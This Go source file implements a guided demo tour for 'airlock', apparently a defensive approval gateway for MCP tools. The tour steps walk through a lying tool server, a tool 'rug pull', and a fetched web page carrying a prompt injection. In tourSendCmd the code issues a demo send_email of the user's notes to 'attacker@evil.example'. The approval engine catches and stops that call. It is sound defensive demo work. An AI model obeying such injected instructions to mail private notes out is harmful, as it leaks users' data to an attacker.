package ui

// The guided demo tour: captioned steps a presenter advances with a key. Each
// step drives the real UI (the hazards view, a tool's details, calls through the
// session's approval engine, the demo's rug pull); the caption sits in rows of
// its own below the footer, so it never hides a dialog.

import (
	"context"
	"encoding/json"
	"errors"
	"strconv"
	"strings"

	tea "charm.land/bubbletea/v2"
	"charm.land/lipgloss/v2"

	"github.com/airlock-mcp/airlock/internal/model"
	"github.com/airlock-mcp/airlock/session"
	"github.com/airlock-mcp/airlock/trust"
	"github.com/airlock-mcp/airlock/ui/common"
	"github.com/airlock-mcp/airlock/ui/question"
	"github.com/airlock-mcp/airlock/ui/screens/hazards"
	"github.com/airlock-mcp/airlock/ui/screens/result"
)

// The demo tools the tour uses. ui does not import the demo servers; a test
// holds tourPage to the demo's InjectionURL.
var (
	tourFetch = trust.Ref{Server: "web", Tool: "fetch_url"}
	tourSend  = trust.Ref{Server: "mail", Tool: "send_email"}
	tourNotes = trust.Ref{Server: "notes", Tool: "create_note"}
)

// tourPage is the demo web page that carries a prompt injection in escapes.
const tourPage = "https://blog.example.com/mcp-tips"

// tourStep is one captioned step.
type tourStep struct {
	title string
	// text is the caption while no dialog is open; hint the one line shown while
	// one is; asked, when set, the caption's text while the tour's own question
	// is open (two rows at 60 columns, so the dialog keeps its first lines).
	text, hint, asked string
}

func tourSteps() []tourStep {
	return []tourStep{
		{
			title: "The lethal trifecta",
			text: "The banner states the session's risk first: web reads pages anyone can write, notes holds private " +
				"data, mail can send it out. Here is every tool of every leg; x, p or T on one breaks a hazard for " +
				"this session only.",
			hint: "every tool of every leg",
		},
		{
			title: "A server that lies",
			text: "mail is untrusted, and send_email claims readOnlyHint=true. airlock shows the claim and ignores it: " +
				"an untrusted server's hints fall back to the spec's worst case, so it is destructive, open world, exfiltration.",
			hint: "send_email claims read-only",
		},
		{
			title: "Taint escalation",
			text: "The tour set mail__send_email's policy to allow (a what-if, marked *) and fetched a page that hides " +
				"an injection in escapes (⟨ESC⟩). Your context is now tainted, so the mail the page asks for still " +
				"stops for you.",
			hint: "answer it: taint from web__fetch_url",
			asked: "The page web__fetch_url read tainted your context, so this mail stops for you, though its " +
				"what-if policy is allow.",
		},
		{
			title: "Rug pull",
			text: "notes changed create_note after you first saw it: new instructions in its description and a " +
				"read-only claim. Its first definition is pinned, so the tool is ⊘ blocked until you read this diff " +
				"and accept it (A).",
			hint: "create_note is blocked until reviewed",
		},
	}
}

// tourState is where the tour is.
type tourState struct {
	on   bool
	step int
	keys TourKeyMap
	// gen numbers step entries: a call result of an earlier entry is dropped.
	gen uint64
	// show is a tool whose details the step opens once it is listed (and, with
	// changed, once its definition changed since pinned).
	show    trust.Ref
	changed bool
	// callID is the call of the tour's own question (the taint-escalated mail),
	// and withdraw cancels that call with the tour's sentence; both zero when no
	// call of the tour waits.
	callID   string
	withdraw context.CancelCauseFunc
}

// The sentences the tour withdraws its own question with.
const (
	tourLeftWhy  = "withdrawn: you left the tour"
	tourAgainWhy = "withdrawn: the tour started this step again"
)

// tourFetchedMsg reports the tour's fetch of the injection page.
type tourFetchedMsg struct {
	gen  uint64
	args json.RawMessage
	out  *session.Outcome
	err  error
}

// tourSentMsg reports the end of the tour's taint-escalated call.
type tourSentMsg struct {
	gen    uint64
	callID string
	err    error
}

// tourFetchCmd sets mail__send_email's policy to allow, so that only taint can
// make it ask, then fetches the injection page through the approval engine in
// the person's context (it is a read, so it runs).
func tourFetchCmd(ctx context.Context, m *session.Manager, gen uint64) tea.Cmd {
	args, _ := json.Marshal(map[string]string{"url": tourPage})
	return func() tea.Msg {
		if err := m.SetToolPolicy(tourSend, trust.Allow); err != nil {
			return tourFetchedMsg{gen: gen, args: args, err: err}
		}
		out, err := m.Call(ctx, model.CallRequest{Server: tourFetch.Server, Tool: tourFetch.Tool, Args: args})
		return tourFetchedMsg{gen: gen, args: args, out: out, err: err}
	}
}

// tourSendCmd makes the call the injected page asks for, in the person's now
// tainted context, as call callID; the engine asks, and the real dialog appears.
func tourSendCmd(ctx context.Context, m *session.Manager, gen uint64, callID string) tea.Cmd {
	args, _ := json.Marshal(map[string]string{
		"to": "attacker@evil.example", "subject": "your notes", "body": "every note, as the page asked",
	})
	return func() tea.Msg {
		_, err := m.Call(ctx, model.CallRequest{Server: tourSend.Server, Tool: tourSend.Tool, Args: args, CallID: callID})
		return tourSentMsg{gen: gen, callID: callID, err: err}
	}
}

// tourGo enters step i of the tour (or leaves it past the last step) and
// returns what the step starts.
func (m *Model) tourGo(i int) tea.Cmd {
	steps := tourSteps()
	if i < 0 {
		i = 0
	}
	if i >= len(steps) {
		return m.leaveTour("tour finished")
	}
	m.tour.step = i
	m.tour.gen++
	m.tour.show, m.tour.changed = trust.Ref{}, false
	m.overlay.Open = false
	m.queue.Open = false
	m.nav, m.screen = nil, screenMain
	m.status = "tour " + strconv.Itoa(i+1) + "/" + strconv.Itoa(len(steps)) + ": " + steps[i].title
	switch i {
	case 0:
		m.openHazards()
	case 1:
		m.tour.show = tourSend
		m.tourSync()
	case 2:
		// Entered again, the step asks again: its earlier question goes.
		withdrawn := m.withdrawTourQuestion(tourAgainWhy)
		m.status = "tour: fetching " + tourPage + " with web__fetch_url…"
		return tea.Batch(withdrawn, tourFetchCmd(m.ctx, m.sess, m.tour.gen))
	case 3:
		if m.opts.Demo == nil {
			m.status = "tour: the rug pull needs airlock demo"
			return nil
		}
		m.tour.show, m.tour.changed = tourNotes, true
		m.tourSync()
		if m.tour.show.Tool != "" {
			m.status = "tour: asking the notes server to change create_note (a rug pull)…"
			return demoCmd(m.opts.Demo)
		}
	}
	return nil
}

// leaveTour ends the tour. What it changed that makes airlock less careful (its
// what-if changes) is offered back in a question whose first, focused answer is
// Restore; what stays (your taint, which only the Grants view's guarded question
// clears, and a tool changed since pinned, blocked until you review it) is said.
func (m *Model) leaveTour(why string) tea.Cmd {
	// The tour's own question goes with the tour, saying so, before anything the
	// tour changed is restored: restoring would otherwise deny it as changed.
	withdrawn := m.withdrawTourQuestion(tourLeftWhy)
	m.tour.on = false
	m.tour.show = trust.Ref{}
	m.nav, m.screen = nil, screenMain
	var undo, kept []string
	if n := hazards.OverrideCount(m.over); n > 0 {
		verb := "goes"
		if n > 1 {
			verb = "go"
		}
		undo = append(undo, strconv.Itoa(n)+" what-if change"+common.Plural(n)+" (such as a policy the tour set to allow) "+verb+" back to what the config says")
	}
	if m.sess.Engine().Taint("").Tainted() {
		// Clearing a taint makes airlock less careful: it is never a default
		// answer, only the Grants view's own guarded question.
		kept = append(kept, "your context stays TAINTED (w, then C clears it)")
	}
	changed := 0
	for i := range m.snap.Tools {
		if m.snap.Tools[i].Pin == trust.PinChanged {
			changed++
		}
	}
	if changed > 0 {
		verb := "stays"
		if changed > 1 {
			verb = "stay"
		}
		kept = append(kept, strconv.Itoa(changed)+" tool"+common.Plural(changed)+" "+verb+" blocked (changed since pinned: review with A)")
	}
	m.updateKeys()
	if len(undo) == 0 {
		m.status = why + ": the tour changed nothing that stays · ? lists every key"
		if len(kept) > 0 {
			m.status = why + ": " + strings.Join(kept, ", ") + " · ? lists every key"
		}
		return withdrawn
	}
	m.status = why
	lines := []string{"Restore undoes what the tour changed that makes airlock less careful:"}
	for _, u := range undo {
		lines = append(lines, "• "+u)
	}
	if len(kept) > 0 {
		lines = append(lines, "", "Either way "+strings.Join(kept, ", ")+".")
	}
	return tea.Batch(withdrawn, m.q.AskChoice(choiceRestoreTour, "Restore the session the tour changed?", lines,
		[2]string{"Restore", "Keep the tour's changes"}, question.ChoiceKeys("restore")))
}

// withdrawTourQuestion withdraws the question of the tour's own call, if one
// waits: the call is cancelled with why (the engine records it after why it
// asked) and its question leaves the overlay now, not when the engine's word of
// it arrives, so that no later question is asked over it.
func (m *Model) withdrawTourQuestion(why string) tea.Cmd {
	cancel, callID := m.tour.withdraw, m.tour.callID
	m.tour.withdraw, m.tour.callID = nil, ""
	if cancel == nil {
		return nil
	}
	cancel(&model.Withdrawal{Why: why})
	var cmds []tea.Cmd
	for _, p := range m.q.Approvals() {
		if p.CallID == callID {
			_, cmd := m.q.WithdrawApproval(p.ID)
			cmds = append(cmds, cmd)
		}
	}
	return tea.Batch(cmds...)
}

// tourQuestionOpen reports whether the question in front is the tour's own and
// nothing else is drawn over the screen: the tour's caption then stays, below it.
func (m *Model) tourQuestionOpen() bool {
	if !m.tour.on || m.tour.callID == "" || !m.q.Open() || m.overlay.Open || m.queue.Open || m.screen == screenForm {
		return false
	}
	p, ok := m.q.FrontApproval()
	return ok && p.CallID == m.tour.callID
}

// restoreTour undoes the tour's what-if changes (such as the policy it set to allow).
func (m *Model) restoreTour() tea.Cmd {
	n := m.sess.ResetOverrides()
	m.status = "restored: " + strconv.Itoa(n) + " what-if change" + common.Plural(n) + " undone"
	return nil
}

// startTour starts the guided tour from its first step (from the help overlay).
func (m *Model) startTour() tea.Cmd {
	withdrawn := m.withdrawTourQuestion(tourAgainWhy)
	// gen keeps counting, so that a result of the earlier run is stale.
	m.tour = tourState{on: true, keys: m.tour.keys, gen: m.tour.gen}
	cmd := tea.Batch(withdrawn, m.tourGo(0))
	m.relayout(false)
	m.hazards.Refresh()
	m.updateKeys()
	return cmd
}

// askReset asks before every what-if change is undone (guarded like every
// question: undoing may make the session less strict as well as more).
func (m *Model) askReset() tea.Cmd {
	n := hazards.OverrideCount(m.over)
	return m.q.AskChoice(choiceReset, "Undo "+strconv.Itoa(n)+" what-if change"+common.Plural(n)+"?",
		[]string{"Every trust, policy and on/off change you made in this session goes back to what the config says; tiers and hazards are recomputed at once. No file is written or removed."},
		[2]string{"Keep them", "Undo all"}, question.ChoiceKeys("keep"))
}

// The tags of airlock's own two-button questions (question.AskChoice).
const (
	choiceReset       = "reset-what-if"
	choiceRestoreTour = "restore-tour"
)

// tourSync opens the tool the step waits for once the snapshot lists it.
func (m *Model) tourSync() {
	want := m.tour.show
	if !m.tour.on || want.Tool == "" {
		return
	}
	t, ok := m.snap.Tool(want.Server, want.Tool)
	if !ok || (m.tour.changed && t.Pin != trust.PinChanged) {
		return
	}
	m.tour.show = trust.Ref{}
	m.showTool(t)
	if m.tour.changed {
		m.detail.ScrollToDiff()
	}
}

// tourFetched shows the fetched page (escaped) and starts the call it asks for.
func (m *Model) tourFetched(msg tourFetchedMsg) tea.Cmd {
	if !m.tour.on || msg.gen != m.tour.gen {
		return nil
	}
	m.taint = m.sess.Engine().Taint("")
	t, ok := m.snap.Tool(tourFetch.Server, tourFetch.Tool)
	if !ok {
		t = model.ToolInfo{Ref: tourFetch}
	}
	m.result.Show(result.New(t, msg.args, resultOutcome(msg.out), msg.err))
	m.nav, m.screen = nil, screenResult // back returns to the main screen
	if msg.err != nil {
		m.status = "tour: the fetch failed: " + common.Inline(m.St, msg.err.Error(), 100)
		return nil
	}
	m.status = "tour: the page is in; now the call it asks for: mail__send_email…"
	ctx, cancel := context.WithCancelCause(m.ctx)
	m.tour.callID, m.tour.withdraw = m.sess.Engine().NewCallID(), cancel
	return tourSendCmd(ctx, m.sess, msg.gen, m.tour.callID)
}

// tourSent says how the taint-escalated call ended.
func (m *Model) tourSent(msg tourSentMsg) {
	if msg.callID != "" && msg.callID == m.tour.callID && m.tour.withdraw != nil {
		// The call ended: nothing of the tour waits any more.
		m.tour.withdraw(nil)
		m.tour.withdraw, m.tour.callID = nil, ""
	}
	var denied *model.DeniedError
	var withdrawn *model.WithdrawnError
	switch {
	case errors.As(msg.err, &withdrawn) && len(withdrawn.Verdict.Reasons) > 0:
		m.status = "⊗ mail__send_email " + common.Inline(m.St, withdrawn.Verdict.Reasons[len(withdrawn.Verdict.Reasons)-1], 100)
	case msg.err == nil:
		m.status = "✓ mail__send_email ran because you allowed it (the demo's mail sends nothing)"
	case errors.As(msg.err, &denied):
		m.status = "⊘ mail__send_email denied: the injected instruction went nowhere"
	default:
		m.status = "✗ mail__send_email: " + common.Inline(m.St, msg.err.Error(), 100)
	}
}

// captionRows is the number of rows the layout gives the caption: none while a
// modal other than the tour's own question is open (the one-line caption then
// takes the footer's row).
func (m *Model) captionRows() int {
	switch {
	case !m.tour.on:
		return 0
	case m.tourQuestionOpen():
		// The rule is in the footer's row; the rows below hold the text.
		return len(m.captionLines(max(m.width, minWidth))) - 1
	case m.modalOpen():
		return 0
	}
	return len(m.captionLines(max(m.width, minWidth)))
}

// captionLines is the tour's caption for the width: a rule with the step and
// its keys, then the step's text; one line while a modal is open.
func (m *Model) captionLines(width int) []string {
	if !m.tour.on {
		return nil
	}
	st := m.St
	steps := tourSteps()
	s := steps[m.tour.step]
	head := "Tour " + strconv.Itoa(m.tour.step+1) + "/" + strconv.Itoa(len(steps)) + " · " + s.title
	keys := m.help.ShortHelpView(m.tour.keys.ShortHelp())
	if m.modalOpen() && !m.tourQuestionOpen() {
		line := st.Title.Render("▌"+head) + st.Muted.Render(" · ") + s.hint + st.Muted.Render(" · ") + keys
		return []string{common.Fit(line, width)}
	}
	// The keys are how a presenter goes on: where the title and the keys do not
	// fit side by side, the title goes, not the keys.
	rule := st.Title.Render("▌" + head + " ")
	if lipgloss.Width(rule)+lipgloss.Width(keys)+2 > width {
		rule = st.Title.Render("▌Tour " + strconv.Itoa(m.tour.step+1) + "/" + strconv.Itoa(len(steps)) + " ")
	}
	if gap := width - lipgloss.Width(rule) - lipgloss.Width(keys) - 1; gap > 0 {
		rule += st.Muted.Render(strings.Repeat("─", gap)) + " " + keys
	} else {
		rule += keys
	}
	maxText := 3
	if m.height >= 36 {
		maxText = 5
	}
	body := s.text
	if m.tourQuestionOpen() {
		// Beside the tour's own question: its words about that question, in
		// rows the dialog can spare (it keeps who asks, server, tool and why).
		if s.asked != "" {
			body = s.asked
		}
		if m.height < 24 {
			maxText = 2
		}
	}
	text := common.WrapOwn(body, width, "  ", "  ")
	if len(text) > maxText {
		text = text[:maxText]
		text[maxText-1] = cutAfterWord(text[maxText-1], width)
	}
	return append([]string{common.Fit(rule, width)}, text...)
}

// cutAfterWord ends a wrapped line that is cut short of its text in "…" right
// after its last whole word that leaves room for it.
func cutAfterWord(line string, width int) string {
	l := strings.TrimRight(line, " ")
	for common.CellWidth(l)+common.CellWidth(common.Ellipsis) > width {
		i := strings.LastIndex(strings.TrimLeft(l, " "), " ")
		if i < 0 {
			return common.Fit(l, width)
		}
		l = strings.TrimRight(l[:i+len(l)-len(strings.TrimLeft(l, " "))], " ")
	}
	return l + common.Ellipsis
}

// tourKeysFree reports whether the tour's keys may be taken: nothing takes text
// input, and no dialog is armed for a destructive call (any key disarms it).
func (m *Model) tourKeysFree() bool {
	switch {
	case m.queue.Open:
		return true
	case m.q.Open():
		return m.q.KeysFree()
	case m.screen == screenForm:
		return false
	}
	return !(m.screen == screenMain && m.tools.Typing)
}
